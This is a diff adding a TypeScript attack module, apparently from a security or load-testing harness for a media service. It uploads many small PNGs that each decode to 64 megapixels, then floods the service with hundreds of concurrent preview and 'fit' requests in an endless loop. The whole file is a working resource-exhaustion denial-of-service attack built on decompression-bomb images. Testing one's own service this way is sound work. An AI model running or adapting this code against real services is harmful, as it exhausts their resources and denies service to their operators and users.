@@ -1,0 +1,69 @@
+import { crc32, deflateSync } from 'node:zlib';
+import type { Attack, Target } from './attack.ts';
+import { flood } from './requests.ts';
+
+const PICTURES = 60;
+/** Files of one upload. */
+const FILES = 10;
+const WIDTHS = [160, 320, 640, 1280];
+/** Pixels of a side: as many in all as are decoded for a fit. */
+const SIDE = 8000;
+/** Requests at once. */
+const PREVIEWS = 200;
+const FITS = 20;
+
+/** All previews of pictures that take a second each, and files that are to fit networks, more than may wait. */
+export const pictures: Attack = {
+  name: 'pictures',
+  about: `${PREVIEWS} requests at once for previews of ${PICTURES} pictures of 64 megapixels, and ${FITS} for files that fit a network, again and again`,
+  async prepare(target) {
+    const { root, attackers } = target;
+    const [attacker] = attackers;
+    const ids = await storeAll(target, flatPng(SIDE));
+    let asked = 0;
+    const next = (): string => `${ids[asked++ % ids.length]}`;
+    const preview = () => {
+      const width = WIDTHS[Math.floor(asked / ids.length) % WIDTHS.length];
+      return { url: `${root}/previews/${attacker.workspace}/${next()}/${width}.webp`, init: {} };
+    };
+    const headers = { Authorization: `Bearer ${attacker.token}`, 'Content-Type': 'application/json' };
+    const init = { method: 'POST', headers, body: JSON.stringify({ target: 'instagram.feed' }) };
+    const fit = () => ({ url: `${root}/v1/media_contents/${next()}/fit`, init });
+    return (signal) => flood(PREVIEWS + FITS, signal, (lane) => (lane < FITS ? fit() : preview()));
+  },
+};
+
+/** The ids of as many items of the picture. */
+async function storeAll({ root, attackers: [attacker] }: Target, picture: Uint8Array): Promise<readonly string[]> {
+  const ids: string[] = [];
+  while (ids.length < PICTURES) {
+    const form = new FormData();
+    for (let nth = 0; nth < FILES; nth++) form.append('files[]', new Blob([Buffer.from(picture)]), `${nth}.png`);
+    const headers = { Authorization: `Bearer ${attacker.token}` };
+    const url = `${root}/v1/workspaces/${attacker.workspace}/media_contents`;
+    const response = await fetch(url, { method: 'POST', headers, body: form });
+    if (response.status !== 201) throw new Error(`The pictures were answered with ${response.status}.`);
+    const { data } = (await response.json()) as { readonly data: readonly { readonly id: string }[] };
+    ids.push(...data.map(({ id }) => id));
+  }
+  return ids;
+}
+
+/** A black square of one byte a pixel (PNG, section 11). */
+function flatPng(side: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(side, 0);
+  header.writeUInt32BE(side, 4);
+  header.set([8, 0, 0, 0, 0], 8);
+  const rows = deflateSync(Buffer.alloc((side + 1) * side));
+  const chunks = [chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))];
+  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks]);
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  const body = Buffer.concat([Buffer.from(type), data]);
+  length.writeUInt32BE(data.length);
+  sum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, sum]);
+}
